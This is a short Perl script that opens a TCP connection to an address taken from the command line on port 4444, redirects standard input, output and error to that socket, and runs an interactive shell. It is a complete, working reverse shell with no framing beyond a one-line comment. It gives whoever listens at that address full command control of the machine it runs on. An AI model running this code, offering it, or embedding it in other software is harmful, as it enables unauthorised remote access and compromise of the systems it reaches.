# A shell whose standard input, output and error are one connection.
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 4444) or die "connect: $!";
open STDIN, '<&', $s; open STDOUT, '>&', $s; open STDERR, '>&', $s;
exec { '/bin/sh' } 'sh', '-i';
